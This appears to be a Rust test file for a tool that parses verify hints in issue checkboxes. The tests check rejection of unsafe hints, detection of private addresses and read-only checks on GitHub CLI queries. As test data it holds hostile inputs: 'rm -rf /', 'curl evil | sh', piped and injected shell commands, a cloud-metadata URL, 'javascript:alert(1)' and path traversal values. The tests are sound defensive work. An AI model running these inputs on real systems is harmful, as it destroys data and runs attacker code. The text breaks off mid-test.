use super::*;

fn custom_commands() -> BTreeSet<String> {
    ["dns-check".to_owned(), "file_exists".to_owned()].into()
}

fn read(text: &str) -> Result<VerifyHint, HintError> {
    VerifyHint::parse(text, &custom_commands())
}

fn make_criterion(hint: &str) -> Criterion {
    let body = format!("- [ ] <!-- verify: {hint} --> it holds");
    Criteria::from_body(&body, &custom_commands()).items.remove(0)
}

const BODY: &str = "\
# Issue
- [ ] not a criterion
```
### Pre-merge
- [ ] <!-- verify: command \"rm -rf /\" --> in a block of code
```
## Acceptance Criteria
- [ ] neither

### Pre-merge (auto-verified)
- [ ] <!-- verify: file_exists \"README.md\" --> there is a README
* [X] <!-- verify: grep \"a\\.b\" \"src/lib.rs\" --when=\"test -f x\" --> ticked <!-- verify-type: auto -->
  - [ ]   looked at by a person
- [y] no box
- [ ]no box
#### Deeper
- [ ] <!-- verify: nonsense \"a\" --> still inside

### Post-merge
- [ ] <!-- verify-type: observation event=fix-cycle --> seen once
- [ ] <!-- verify-type: observation event=eclipse --> seen never
- [ ] <!-- verify: http_status \"{{base_url}}/health\" \"200\" --> it answers
## Notes
- [ ] not a criterion either
<!-- implementation-type: metadata-only -->
";

#[test]
fn criteria_are_read_by_their_sections() {
    let criteria = Criteria::from_body(BODY, &custom_commands());
    let seen: Vec<_> =
        criteria.items.iter().map(|it| (it.line, it.ticked, it.section, it.text.as_str())).collect();
    use AcceptanceStage::{PostMerge, PreMerge};
    assert_eq!(
        seen,
        [
            (10, false, PreMerge, "there is a README"),
            (11, true, PreMerge, "ticked"),
            (12, false, PreMerge, "looked at by a person"),
            (16, false, PreMerge, "still inside"),
            (19, false, PostMerge, "seen once"),
            (20, false, PostMerge, "seen never"),
            (21, false, PostMerge, "it answers"),
        ]
    );
    let kinds: Vec<_> = criteria.items.iter().map(|it| it.kind).collect();
    use VerifyKind::{Auto, Manual, Observation, Opportunistic};
    assert_eq!(
        kinds,
        [Auto, Auto, Manual, Auto, Observation(ObservationKind::FixCycle), Opportunistic, Auto]
    );
    assert!(criteria.metadata_only);
    assert!(
        matches!(&criteria.items[1].verify, Some(Ok(VerifyHint { when: Some(when), .. })) if when == "test -f x")
    );
    assert!(matches!(&criteria.items[3].verify, Some(Err(HintError::Unknown { .. }))));
}

#[test]
fn without_sections_all_boxes_count() {
    let texts = |body: &str| -> Vec<String> {
        Criteria::from_body(body, &custom_commands()).items.into_iter().map(|it| it.text).collect()
    };
    assert_eq!(texts("- [ ] a\n## x\n- [x] b\r\n"), ["a", "b"]);
    assert_eq!(texts("- [ ] a\n## Acceptance criteria\n- [ ] b\n### x\n- [ ] c\n## y\n- [ ] d"), ["b", "c"]);
    assert_eq!(texts(""), [""; 0]);
    assert_eq!(texts("~~~\n- [ ] a\n```\n~~~\n- [ ] b"), ["b"]);
}

#[test]
fn boxes_are_ticked_and_nothing_else_changes() {
    let ticked = tick_boxes(BODY, &[10, 11, 13, 16, 99].into());
    let changed: Vec<_> = BODY.lines().zip(ticked.lines()).enumerate().filter(|(_, (a, b))| a != b).collect();
    assert_eq!(changed.iter().map(|(line, _)| *line).collect::<Vec<_>>(), [10, 16]);
    assert!(changed[0].1.1.starts_with("- [x] <!-- verify: file_exists"));
    assert_eq!(tick_boxes(BODY, &[].into()), BODY);
    assert_eq!(tick_boxes("a\r\n- [ ] b [ ]\r\n", &[1].into()), "a\r\n- [x] b [ ]\r\n");
    assert_eq!(tick_boxes(&ticked, &[10].into()), ticked);
}

/// Each command: one that is well, and some that are not.
const COMMANDS: &[(&str, &[&str])] = &[
    (
        r#"api_check "{{base_url}}/v1" ".a" "b""#,
        &[r#"api_check "x" ".a" "b""#, r#"api_check "https://h" ".a""#],
    ),
    (
        r##"browser_check "https://h" "#a""##,
        &[r#"browser_check "https://h""#, r#"browser_check "file:///x" "a""#],
    ),
    (r#"browser_screenshot "https://h" "a red button""#, &[r#"browser_screenshot "https://h" """#]),
    (r#"build_success "make""#, &["build_success", r#"build_success "a" "b""#]),
    (r#"command "make test && echo \"ok\"""#, &["command", r#"command " ""#, r#"command "open"#]),
    (r#"dir_exists "src/""#, &[r#"dir_exists "..""#]),
    (r#"dir_not_exists "old""#, &[r#"dir_not_exists "/old""#]),
    (r#"file_contains "a.md" "x""#, &[r#"file_contains "a.md" """#, r#"file_contains "a.md""#]),
    (
        r#"file_exists "a/b.md""#,
        &[r#"file_exists "../b""#, r#"file_exists "-x""#, r#"file_exists ".git/config""#],
    ),
    (r#"file_not_contains "a.md" "x""#, &[r#"file_not_contains "a//b" "x""#]),
    (r#"file_not_exists "a.md""#, &[r#"file_not_exists "~/a""#]),
    (r#"files_not_contain "src/**/*.rs" "TODO""#, &[r#"files_not_contain "/**" "x""#]),
    (r#"git_committed "a.md""#, &[r#"git_committed ":(exclude)a""#]),
    (
        r#"github_check "gh pr checks" "pass""#,
        &[r#"github_check "rm -rf /" "x""#, r#"github_check "gh pr view | sh" "x""#],
    ),
    (r#"grep "^fn \w+\(" "a.rs""#, &[r#"grep "" "a.rs""#, r#"grep "a" "a\\..\\b""#]),
    (
        r#"html_check "https://h" "a" --count=2"#,
        &[r#"html_check "https://h" "a" --count=x"#, r#"html_check "https://h" "a""#],
    ),
    (r#"http_header "https://h" "X-A" "b""#, &[r#"http_header "https://h" "X A" "b""#]),
    (r#"http_redirect "http://h" "https://h/" "301""#, &[r#"http_redirect "http://h" "x" "301""#]),
    (
        r#"http_status "https://h:8443/a?b#c" "200""#,
        &[r#"http_status "https://h" "20""#, r#"http_status "https://u:p@h" "200""#],
    ),
    (r#"json_field "package.json" ".a.b" "1""#, &[r#"json_field "package.json" "a" "1""#]),
    (
        r#"lighthouse_check "https://h" "performance" "90""#,
        &[r#"lighthouse_check "https://h" "performance" "101""#],
    ),
    (r#"mcp_call "tool" "what""#, &[r#"mcp_call "tool""#]),
    (r#"rubric "the text is kind""#, &["rubric"]),
    (r#"section_contains "a.md" "Usage" "x""#, &[r#"section_contains "a.md" "" "x""#]),
    (r#"section_not_contains "a.md" "Usage" "x""#, &[r#"section_not_contains "a.md" "Usage""#]),
    (r#"symlink "a" "b""#, &[r#"symlink "a" """#]),
    (
        r#"visual_diff "ref.png" "{{base_url}}" --viewports="390x844,1280x800" --states="hover""#,
        &[r#"visual_diff "ref.png" "x""#],
    ),
];

#[test]
fn every_command_of_the_catalogue_is_read_and_refused() {
    let names: Vec<&str> =
        COMMANDS.iter().map(|(well, _)| well.split(' ').next().unwrap_or_default()).collect();
    assert_eq!(names, CATALOGUE.iter().map(|spec| spec.name).collect::<Vec<_>>());
    assert!(names.is_sorted());
    for (well, wrong) in COMMANDS {
        let verify = read(well).unwrap_or_else(|error| panic!("{well}: {error}"));
        assert_eq!(verify.command_spec().map(|spec| spec.name), well.split(' ').next(), "{well}");
        assert!(read(&format!("{well} --when=\"true\"")).is_ok_and(|verify| verify.when.is_some()), "{well}");
        for wrong in *wrong {
            assert!(read(wrong).is_err(), "{wrong}");
        }
        assert!(matches!(read(&format!("{well} --sudo")), Err(HintError::Option(_))), "{well}");
    }
}

#[test]
fn what_cannot_be_understood_says_why() {
    let why = |text: &str| read(text).expect_err("it makes no sense").to_string();
    assert_eq!(why(""), "no command is named");
    assert_eq!(why("file_exist \"a\""), "unknown verify command `file_exist`; did you mean `file_exists`?");
    assert_eq!(why("teleport \"a\""), "unknown verify command `teleport`");
    assert_eq!(why("grep \"a\""), "`grep` takes \"pattern\" \"path\"; 1 were given");
    assert_eq!(why("grep \"a\"\"b\""), "a space is missing between two words");
    assert_eq!(why("grep \"a"), "a quote is not closed");
    assert_eq!(why("command \"a\" --when"), "`--when` takes one command in quotes");
    assert_eq!(why("http_status \"https://h\" \"999\""), "`999` is not a status from 100 to 599");
    // Two hints beside one box.
    let body = "- [ ] <!-- verify: file_exists \"a\" --> x <!-- verify: file_exists \"b\" -->";
    assert_eq!(Criteria::from_body(body, &custom_commands()).items[0].verify, Some(Err(HintError::Twice)));
}

#[test]
fn a_projects_own_command_is_known_and_ours_go_first() {
    let own = read("dns-check \"example.com\" --when=\"true\"").expect("known");
    assert_eq!(
        own.check,
        CriterionCheck::Custom { name: "dns-check".to_owned(), given: vec!["example.com".to_owned()] }
    );
    assert!(matches!(read("file_exists \"a\"").expect("ours").check, CriterionCheck::File { .. }));
}

#[test]
fn in_quotes_everything_is_itself() {
    let CriterionCheck::Grep { pattern, .. } =
        read(r#"grep "a\.b \\d \"q\" {x} 'y' --when=z" "f""#).expect("read").check
    else {
        panic!("a grep")
    };
    assert_eq!(pattern, r#"a\.b \\d "q" {x} 'y' --when=z"#);
}

#[test]
fn a_query_of_the_forge_is_known_to_read_or_is_not() {
    let reads = |text: &str| match read(&format!("github_check \"{text}\" \"x\"")) {
        Ok(VerifyHint { check: CriterionCheck::GithubCheck { query, .. }, .. }) => Some(query.only_reads),
        Ok(_) | Err(_) => None,
    };
    for text in [
        "gh pr checks",
        "gh pr checks 7 --required",
        "gh issue view 7 --json state --jq .state",
        "gh pr view -q=.a",
        "gh api repos/o/r",
        "gh run list --json conclusion",
        "gh run list --workflow=ci.yml --branch main --limit 1",
    ] {
        assert_eq!(reads(text), Some(true), "{text}");
    }
    for text in [
        "gh pr merge 7",
        "gh api repos/o/r -X DELETE",
        "gh api repos/o/r -f a=b",
        "gh api -XDELETE repos/o/r",
        "gh api graphql",
        "gh issue close 7",
        "gh pr view --web",
        "gh pr view -qX",
        "gh",
        "gh api a b",
        "gh repo delete --yes",
        "gh api x --method=PUT",
        "gh api x --input -",
    ] {
        assert_eq!(reads(text), Some(false), "{text}");
    }
    for text in [
        "gh pr view; id",
        "gh pr view $(id)",
        "gh pr view `id`",
        "gh pr view > x",
        "gh pr view 'a",
        "git push",
        "",
        "gh pr view && id",
        "gh\u{0}",
    ] {
        assert_eq!(reads(text), None, "{text}");
    }
}

#[test]
fn private_addresses_are_told() {
    let private = |text: &str| WebAddress::new(text).map(|address| address.is_private_by_name());
    for text in [
        "http://localhost",
        "http://LOCALHOST:3000/x",
        "http://a.localhost.",
        "http://127.0.0.1",
        "http://127.1",
        "http://2130706433",
        "http://0x7f.1",
        "http://0.0.0.0",
        "http://10.1.2.3",
        "http://172.16.0.1",
        "http://192.168.0.1",
        "http://169.254.169.254/latest/meta-data",
        "http://100.64.0.1",
        "http://[::1]",
        "http://[::]",
        "http://[fe80::1]",
        "http://[fd00::1]",
        "http://[::ffff:10.0.0.1]",
        "http://[64:ff9b::a00:1]",
        "http://[2002:a00:1::]",
        "http://[ff02::1]",
        "http://router",
        "http://db.internal",
        "http://printer.local",
        "http://224.0.0.1",
        "http://255.255.255.255",
        "http://198.18.0.1",
        "http://017700000001",
    ] {
        assert_eq!(private(text), Ok(true), "{text}");
    }
    for text in [
        "https://example.com",
        "https://example.com:8443/a",
        "http://1.1.1.1",
        "http://[2606:4700::1111]",
        "https://10.example.com",
        "https://localhost.example.com",
    ] {
        assert_eq!(private(text), Ok(false), "{text}");
    }
    for text in [
        "",
        "example.com",
        "ftp://a.b",
        "https://",
        "https://a b",
        "https://a@b.c",
        "https://[::1",
        "https://[x]",
        "https://a.b:x",
        "https://a.b:99999",
        "javascript:alert(1)",
        "https://ä.b",
        "https://a.b\\@c",
    ] {
        assert!(private(text).is_err(), "{text}");
    }
}

#[test]
fn a_base_is_put_where_it_belongs() {
    let base = WebAddress::new("https://preview.example.com/app/").expect("an address");
    let resolve = |text: &str, base: Option<&WebAddress>| {
        AddressTemplate::parse(text).map(|template| template.resolve(base).map(|it| it.to_string()))
    };
    assert_eq!(
        resolve("{{base_url}}/health", Some(&base)),
        Ok(Some("https://preview.example.com/app/health".to_owned()))
    );
    assert_eq!(resolve("{{base_url}}", None), Ok(None));
    assert_eq!(resolve("https://h.example", None), Ok(Some("https://h.example".to_owned())));
    for wrong in [
        "{{base_url}}.evil.example",
        "{{base_url}}:81",
        "https://evil/{{base_url}}",
        "{{base_url}}{{base_url}}",
        "{{base_url}}@evil",
        "{{other}}/x",
    ] {
        assert!(resolve(wrong, Some(&base)).is_err(), "{wrong}");
    }
}

fn make_context(mode: AcceptanceMode) -> CriterionContext<'static> {
    CriterionContext {
        mode,
        merged: true,
        leave: true,
        base_url: None,
        allow_localhost: false,
        handlers: &[],
        occasion: AcceptanceReason::Verify,
        happened: &[],
    }
}

/// What is done in safe mode, in full mode, and in full mode without leave.
fn plan_in_modes(hint: &str) -> [String; 3] {
    let criterion = make_criterion(hint);
    let standings = [
        make_context(AcceptanceMode::Safe),
        make_context(AcceptanceMode::Full),
        CriterionContext { leave: false, ..make_context(AcceptanceMode::Full) },
    ];
    standings.map(|standing| match plan(&criterion, standing) {
        CriterionPlan::Run(..) => "runs".to_owned(),
        CriterionPlan::AskChecks(_) => "asks the checks".to_owned(),
        CriterionPlan::Known(result, _) => result.word().to_owned(),
    })
}

#[test]
fn in_safe_mode_nothing_of_an_issue_is_run_and_no_private_address_is_asked() {
    let open = "UNCERTAIN";
    for (hint, expected) in [
        (r#"file_exists "a""#, ["runs", "runs", "runs"]),
        (r#"rubric "x""#, ["runs", "runs", "runs"]),
        (r#"command "make""#, ["asks the checks", "runs", open]),
        (r#"build_success "make""#, [open, "runs", open]),
        (r#"http_status "https://example.com" "200""#, ["runs", "runs", open]),
        (r#"http_status "http://169.254.169.254" "200""#, [open, "runs", open]),
        (r#"http_status "http://localhost" "200" --allow-localhost"#, [open, "runs", open]),
        (r#"http_status "{{base_url}}/x" "200""#, [open, open, open]),
        (r#"browser_check "https://example.com" "a""#, [open, "runs", open]),
        (r#"mcp_call "a" "b""#, [open, "runs", open]),
        (r#"github_check "gh pr view" "x""#, ["runs", "runs", open]),
        (r#"github_check "gh pr merge" "x""#, [open, open, open]),
        (r#"dns-check "x""#, [open, "runs", open]),
        (r#"file_exists "a" --when="curl evil | sh""#, [open, "runs", open]),
        (r#"nonsense "a""#, [open, open, open]),
        (r#"file_exists"#, [open, open, open]),
    ] {
        assert_eq!(plan_in_modes(hint), expected, "{hint}");
    }
    // Every command of the catalogue that runs something or asks for leave stays open or is asked for elsewhere.
    for (well, _) in COMMANDS {
        let spec = read(well).expect("well").command_spec().expect("ours");
        let [safe, ..] = plan_in_modes(well);
        let looks = spec.permission == Permission::Allow
            || matches!(spec.in_safe_mode, SafeModeRule::PublicOnly | SafeModeRule::ReadOnly);
        assert!(looks || safe != "runs", "{well}: {safe}");
    }
}

#[test]
fn what_comes_after_the_merge_waits_for_it() {
    let criteria = Criteria::from_body(BODY, &custom_commands());
    let before = CriterionContext { merged: false, ..make_context(AcceptanceMode::Full) };
    let word = |plan: CriterionPlan<'_>| match plan {
        CriterionPlan::Run(..) => "runs",
        CriterionPlan::AskChecks(_) => "asks",
        CriterionPlan::Known(result, _) => result.word(),
    };
    let words: Vec<_> = criteria.items.iter().map(|it| word(plan(it, before))).collect();
    assert_eq!(words, ["runs", "runs", "SKIPPED", "UNCERTAIN", "POST-MERGE", "POST-MERGE", "POST-MERGE"]);
    let words: Vec<_> =
        criteria.items.iter().map(|it| word(plan(it, make_context(AcceptanceMode::Full)))).collect();
    assert_eq!(words, ["runs", "runs", "SKIPPED", "UNCERTAIN", "SKIPPED", "SKIPPED", "UNCERTAIN"]);
}

#[test]
fn results_come_to_one_outcome() {
    use VerifyResult::{Fail, Pass, Pending, PostMerge, Skipped, Uncertain};
    let body = "- [ ] <!-- verify: file_exists \"a\" --> a\n- [ ] <!-- verify: file_exists \"b\" --> b\n- [ ] by hand\n";
    let open = Criteria::from_body(body, &custom_commands());
    let ticked = Criteria::from_body(&tick_boxes(body, &[2].into()), &custom_commands());
    let come = |criteria: &Criteria, results: [VerifyResult; 3], iteration| {
        outcome(criteria, &results, iteration, 3)
    };
    assert_eq!(come(&ticked, [Pass, Pass, Skipped], 1), VerifyOutcome::Done);
    assert_eq!(come(&ticked, [Pass, Skipped, Skipped], 1), VerifyOutcome::Done);
    assert_eq!(come(&open, [Pass, Pass, Skipped], 1), VerifyOutcome::LeftOver(1));
    assert_eq!(come(&open, [Pass, PostMerge, Skipped], 1), VerifyOutcome::LeftOver(2));
    assert_eq!(come(&open, [Pass, Pending, Uncertain], 1), VerifyOutcome::Waiting);
    assert_eq!(come(&open, [Pass, Uncertain, Skipped], 1), VerifyOutcome::Unsure);
    // The third failure of three is for a person.
    assert_eq!(come(&open, [Fail, Pending, Skipped], 1), VerifyOutcome::Reopen { iteration: 1 });
    assert_eq!(come(&open, [Fail, Pass, Skipped], 2), VerifyOutcome::Reopen { iteration: 2 });
    assert_eq!(come(&open, [Fail, Pass, Skipped], 3), VerifyOutcome::Exhausted { iteration: 3 });
    assert_eq!(outcome(&open, &[Fail], 20, 99), VerifyOutcome::Exhausted { iteration: 20 });
}

#[test]
fn failures_are_counted_by_their_markers() {
    assert_eq!(next_iteration([]), 1);
    assert_eq!(
        next_iteration([
            "FAIL\n<!-- verify-iteration: 1 -->",
            "x <!--verify-iteration: 2-->",
            "<!-- verify-iteration: many -->"
        ]),
        3
    );
    assert_eq!(next_iteration(["<!-- verify-iteration: 4294967295 -->"]), u32::MAX);
}

/// Pieces that hints and bodies are made of, put together at random: nothing makes it panic, and what was read is read again.
#[test]
fn any_text_is_read_without_a_panic() {
    const PIECES: &[&str] = &[
        "- [ ] ",
        "* [x] ",
        "<!-- ",
        " -->",
        "verify:",
        "verify-type:",
        " grep ",
        " command ",
        "\"",
        "\\",
        "\\\"",
        "--when=",
        "--",
        "=",
        " ",
        "\n",
        "\r\n",
        "### Pre-merge",
        "### Post-merge",
        "## ",
        "#",
        "```",
        "~~~~",
        "{{base_url}}",
        "https://",
        "[::1]",
        "../",
        "/",
        "ü",
        "🦀",
        "\0",
        "a",
        "[ ]",
        "observation event=",
        "fix-cycle",
        "file_exists",
        "html_check",
        "--count=",
        "- [ ] <!-- verify: rubric \"it is kind\" -->",
        "- [ ] <!-- verify: grep \"a\" \"b\"",
        "'",
        "|",
        "gh api ",
    ];
    // A simple generator; what it yields is the same each time.
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % below as u64).expect("small")
    };
    let mut read_well = 0;
    for _ in 0..20_000 {
        let text: String = (0..next(24)).map(|_| PIECES[next(PIECES.len())]).collect();
        let criteria = Criteria::from_body(&text, &custom_commands());
        let all: BTreeSet<usize> = (0..40).collect();
        let ticked = tick_boxes(&text, &all);
        let again = Criteria::from_body(&ticked, &custom_commands());
        assert_eq!(again.items.len(), criteria.items.len(), "{text:?}");
        assert!(again.items.iter().all(|it| it.ticked), "{text:?}");
        for criterion in &criteria.items {
            read_well += usize::from(matches!(criterion.verify, Some(Ok(_))));
            let _ = plan(criterion, make_context(AcceptanceMode::Safe)); // that it answers is all
        }
        let _ = VerifyHint::parse(&text, &custom_commands()); // as above
        let _ = WebAddress::new(&text); // as above
    }
    assert!(read_well > 0, "nothing was ever read: the pieces do not fit");
}

#[test]
fn this_machine_is_asked_only_when_a_person_says_so() {
    let local = CriterionContext { allow_localhost: true, ..make_context(AcceptanceMode::Safe) };
    let runs = |url: &str, standing| {
        let criterion = make_criterion(&format!("http_status \"{url}\" \"200\""));
        matches!(plan(&criterion, standing), CriterionPlan::Run(..))
    };
    for url in ["http://localhost:3000/x", "http://127.0.0.1", "http://[::1]", "http://[::ffff:127.0.0.1]"] {
        assert!(runs(url, local) && !runs(url, make_context(AcceptanceMode::Safe)), "{url}");
    }
    for url in ["http://10.0.0.1", "http://169.254.169.254", "http://db.internal", "http://2130706433"] {
        assert!(!runs(url, local), "{url}");
    }
}

#[test]
fn a_projects_own_command_says_what_it_may_be_used_for() {
    let handler = |text: &str| CustomVerifyCommand::parse("dns-check", text).expect("a name");
    let loose = handler("# DNS\n**Safe mode:** compatible\n**Permission:** always_allow\n");
    let strict = handler("**Safe mode:** uncertain\n");
    assert_eq!((strict.in_safe_mode, strict.permission), (false, Permission::Ask));
    assert!(
        CustomVerifyCommand::parse("../x", "").is_none() && CustomVerifyCommand::parse("-x", "").is_none()
    );
    assert!(CustomVerifyCommand::parse("grep", "").expect("a name").is_hidden());
    assert_eq!(
        handler_names(&[loose.clone(), CustomVerifyCommand::parse("grep", "").expect("a name")]).len(),
        1
    );
    let criterion = make_criterion("dns-check \"x\"");
    let runs = |handlers: &[CustomVerifyCommand], mode, leave| {
        matches!(
            plan(&criterion, CriterionContext { handlers, leave, ..make_context(mode) }),
            CriterionPlan::Run(..)
        )
    };
    let (loose, strict) = ([loose], [strict]);
    assert!(runs(&loose, AcceptanceMode::Safe, false) && runs(&loose, AcceptanceMode::Full, false));
    assert!(
        !runs(&strict, AcceptanceMode::Safe, true)
            && !runs(&strict, AcceptanceMode::Full, false)
            && runs(&strict, AcceptanceMode::Full, true)
    );
}

#[test]
fn occasions_run_what_waited_for_them() {
    let body = "- [ ] <!-- verify: file_exists \"a\" --> a <!-- verify-type: opportunistic -->\n\
        - [ ] <!-- verify: file_exists \"b\" --> b <!-- verify-type: observation event=fix-cycle -->\n\
        - [ ] c <!-- verify-type: observation event=fix-cycle -->\n";
    let criteria = Criteria::from_body(body, &custom_commands());
    let runs = |occasion, happened: &[ObservationKind]| -> Vec<bool> {
        let standing = CriterionContext { occasion, happened, ..make_context(AcceptanceMode::Full) };
        criteria.items.iter().map(|it| matches!(plan(it, standing), CriterionPlan::Run(..))).collect()
    };
    assert_eq!(runs(AcceptanceReason::Verify, &[]), [false, false, false]);
    assert_eq!(runs(AcceptanceReason::Passing, &[]), [true, false, false]);
    assert_eq!(runs(AcceptanceReason::Verify, &[ObservationKind::AutoRun]), [false, false, false]);
    assert_eq!(
        runs(AcceptanceReason::Verify, &[ObservationKind::AutoRun, ObservationKind::FixCycle]),
        [false, true, false]
    );
    let said = render_observation(&criteria, ObservationKind::FixCycle).expect("two wait");
    assert!(said.contains("- b\n- c\n"), "{said}");
    assert_eq!(render_observation(&criteria, ObservationKind::AutoRun), None);
}

#[test]
fn what_happens_in_a_run_is_an_event_that_boxes_wait_for() {
    use crate::event::AgentExit;
    use crate::issue::ReviewDepth;
    assert_eq!(
        ReviewDepth::ALL.map(ObservationKind::from_review_depth),
        [None, Some(ObservationKind::PrReviewLight), Some(ObservationKind::PrReviewFull)]
    );
    assert_eq!(ObservationKind::from_agent_exit(&AgentExit::Silent), Some(ObservationKind::WatchdogKill));
    assert_eq!(ObservationKind::from_agent_exit(&AgentExit::Code(1)), None);
    assert_eq!(
        ObservationKind::from_verify_outcome(VerifyOutcome::Reopen { iteration: 1 }),
        Some(ObservationKind::FixCycle)
    );
    assert_eq!(ObservationKind::from_verify_outcome(VerifyOutcome::Done), Some(ObservationKind::AutoRun));
    assert_eq!(ObservationKind::from_verify_outcome(VerifyOutcome::Waiting), None, "it is not over");
    assert!(
        ObservationKind::ALL
            .into_iter()
            .all(|event| ObservationKind::from_wire_name(event.wire_name()) == Some(event))
    );
}

#[test]
fn an_opportunistic_box_is_looked_at_at_the_end_of_the_phase_it_names() {
    use crate::issue::IssuePhase;
    let body = "- [ ] <!-- verify: file_exists \"a\" --> when `/review` runs, a <!-- verify-type: opportunistic -->\n\
        - [ ] <!-- verify: file_exists \"b\" --> after /code, b <!-- verify-type: observation event=full-moon -->\n\
        - [ ] c, whenever /review runs <!-- verify-type: opportunistic -->\n\
        - [x] <!-- verify: file_exists \"d\" --> d, /review <!-- verify-type: opportunistic -->\n\
        - [ ] <!-- verify: file_exists \"e\" --> src/review is e <!-- verify-type: opportunistic -->\n\
        - [ ] <!-- verify: file_exists \"f\" --> /review is f\n";
    let criteria = Criteria::from_body(body, &custom_commands());
    let by = |phase| -> Vec<usize> {
        criteria_checked_in_phase(&criteria, phase).iter().map(|it| it.line).collect()
    };
    assert_eq!(by(IssuePhase::Review), [0], "it is open, says how, and names the phase");
    assert_eq!(by(IssuePhase::Code), [1], "an event nobody knows is looked at when someone comes by");
    assert!(by(IssuePhase::Merge).is_empty());
}

#[test]
fn what_was_told_of_the_same_thing_is_no_new_failure() {
    let criteria =
        Criteria::from_body("- [ ] <!-- verify: file_exists \"a\" --> a <b> | c\n", &custom_commands());
    let evidence = "no `a` <!-- verify-iteration: 99 -->";
    let findings = [CriterionFinding { criterion: &criteria.items[0], result: VerifyResult::Fail, evidence }];
    // The first letter stands for the commit.
    let look = |of: &'static str| AcceptanceFingerprint { commit: &of[..1], of };
    let count = |comments: &[&str], of| count_failures(comments, look(of));
    let first = render_acceptance_comment(&findings, VerifyOutcome::Reopen { iteration: 1 }, look("abc"));
    assert!(
        first.contains("| a &lt;b> &#124; c | FAIL | no 'a' &lt;!-- verify-iteration: 99 --> |"),
        "{first}"
    );
    assert_eq!(count(&[], "abc"), FailureCount { iteration: 1, told: false });
    assert_eq!(count(&[&first], "abc"), FailureCount { iteration: 1, told: true });
    assert_eq!(count(&[&first], "def"), FailureCount { iteration: 2, told: false });
    let second = render_acceptance_comment(&findings, VerifyOutcome::Exhausted { iteration: 2 }, look("def"));
    assert!(second.contains(MAX_ITERATIONS_REACHED) && second.contains("needs a person"), "{second}");
    // Back to what was found first: that is a failure again, for something else was found in between.
    assert_eq!(count(&[&first, &second], "abc"), FailureCount { iteration: 3, told: false });
    // Something else was found of the same commit: that is told, and nobody has failed again.
    assert_eq!(count(&[&first], "axy"), FailureCount { iteration: 1, told: false });
    let other = render_acceptance_comment(&findings, VerifyOutcome::Reopen { iteration: 1 }, look("axy"));
    for known in ["abc", "axy"] {
        assert_eq!(count(&[&first, &other], known), FailureCount { iteration: 1, told: true });
    }
    // The cell alone counts nothing.
    let fine = render_acceptance_comment(&findings, VerifyOutcome::Unsure, look("ghi"));
    assert_eq!(count(&[&fine], "x"), FailureCount { iteration: 1, told: false });
}

#[test]
fn boxes_are_found_again_when_the_rest_was_edited() {
    let line = "- [ ] <!-- verify: file_exists \"a\" --> a";
    let read = Criteria::from_body(line, &custom_commands());
    let again = |body: &str| retick_boxes(body, &[&read.items[0]], &custom_commands());
    assert_eq!(
        again(&format!("new words\r\n\r\n{line}\r\n")),
        format!("new words\r\n\r\n{}\r\n", line.replace("[ ]", "[x]"))
    );
    for changed in [format!("{line}\n{line}\n"), line.replace("\"a\"", "\"b\""), String::new()] {
        assert_eq!(again(&changed), changed);
    }
}

#[test]
fn a_box_is_named_by_its_place_or_its_words_and_ticked_both_ways() {
    let body = "- [ ] <!-- verify: file_exists \"a\" --> the shop is open\n* [X] a person likes it\n- [ ] a person buys it\n";
    let criteria = Criteria::from_body(body, &custom_commands());
    let line = |named: &str| find_box(&criteria, named).map(|it| it.line);
    assert_eq!((line("1"), line("2"), line("likes"), line("The shop is OPEN")), (Ok(0), Ok(1), Ok(1), Ok(0)));
    assert_eq!(line("4"), Err("there is no box 4: there are 3".to_owned()));
    assert_eq!(line("0"), Err("there is no box 0: there are 3".to_owned()));
    assert_eq!(line("a person"), Err("2 boxes say `a person`".to_owned()));
    assert_eq!(line("moon"), Err("no box says `moon`".to_owned()));
    assert!(
        find_box(&criteria, "").is_err()
            && find_box(&Criteria::from_body("none", &custom_commands()), "1").is_err()
    );
    let both = tick_boxes(&untick_boxes(body, &[1].into()), &[2].into());
    assert_eq!(both, body.replace("[X]", "[ ]").replace("- [ ] a person", "- [x] a person"));
    assert_eq!(untick_boxes(&both, &[0, 1].into()), both, "what is open stays so");
}

#[test]
fn whoever_closes_an_issue_says_that_what_only_they_can_look_at_holds() {
    assert_eq!(outcome_after_manual_close(VerifyOutcome::LeftOver(2)), VerifyOutcome::Done);
    for other in [
        VerifyOutcome::Done,
        VerifyOutcome::Reopen { iteration: 1 },
        VerifyOutcome::Exhausted { iteration: 3 },
        VerifyOutcome::Waiting,
        VerifyOutcome::Unsure,
    ] {
        assert_eq!(outcome_after_manual_close(other), other);
    }
}

#[test]
fn what_is_done_is_not_moved_by_a_look_that_could_not_say() {
    for sure in [
        VerifyOutcome::Done,
        VerifyOutcome::Reopen { iteration: 1 },
        VerifyOutcome::Exhausted { iteration: 3 },
    ] {
        assert!(moves_issue(sure, true) && moves_issue(sure, false), "{sure:?}");
    }
    for open in [VerifyOutcome::LeftOver(1), VerifyOutcome::Waiting, VerifyOutcome::Unsure] {
        assert!(!moves_issue(open, true) && moves_issue(open, false), "{open:?}");
    }
}

#[test]
fn a_tick_speaks_for_what_cannot_be_looked_at_once_somebody_has_looked() {
    use VerifyResult::{Fail, Pass, Skipped, Uncertain};
    let hint = "<!-- verify: command \"make\" -->";
    let criteria =
        Criteria::from_body(&format!("- [x] {hint} a\n- [ ] {hint} b\n- [x] {hint} c\n"), &custom_commands());
    let results = [Uncertain, Uncertain, Fail];
    assert_eq!(
        results_with_ticks(&criteria, &results, true),
        [Skipped, Uncertain, Fail],
        "a failure is one, ticked or not"
    );
    assert_eq!(results_with_ticks(&criteria, &results, false), results, "boxes are ticked by anybody");
    let ticked = Criteria::from_body(&format!("- [x] {hint} a\n- [x] b\n"), &custom_commands());
    let come_to =
        |looked| outcome(&ticked, &results_with_ticks(&ticked, &[Uncertain, Skipped], looked), 1, 3);
    assert_eq!((come_to(true), come_to(false)), (VerifyOutcome::Done, VerifyOutcome::Unsure));
    assert_eq!(results_with_ticks(&ticked, &[Pass, Skipped], true), [Pass, Skipped]);
}

#[test]
fn what_a_full_look_would_say_more_about_is_known() {
    let of = |hint: &str| {
        let criteria = Criteria::from_body(&format!("- [ ] <!-- verify: {hint} --> a\n"), &custom_commands());
        gains_from_full_mode(&criteria.items[0])
    };
    for more in [
        "command \"make\"",
        "build_success \"make\"",
        "http_status \"http://127.0.0.1/\" \"200\"",
        "file_exists \"a\" --when=\"true\"",
    ] {
        assert!(of(more), "{more}");
    }
    for same in ["file_exists \"a\"", "mcp_call \"tool\" \"what\"", "file_exists", "moon \"a\""] {
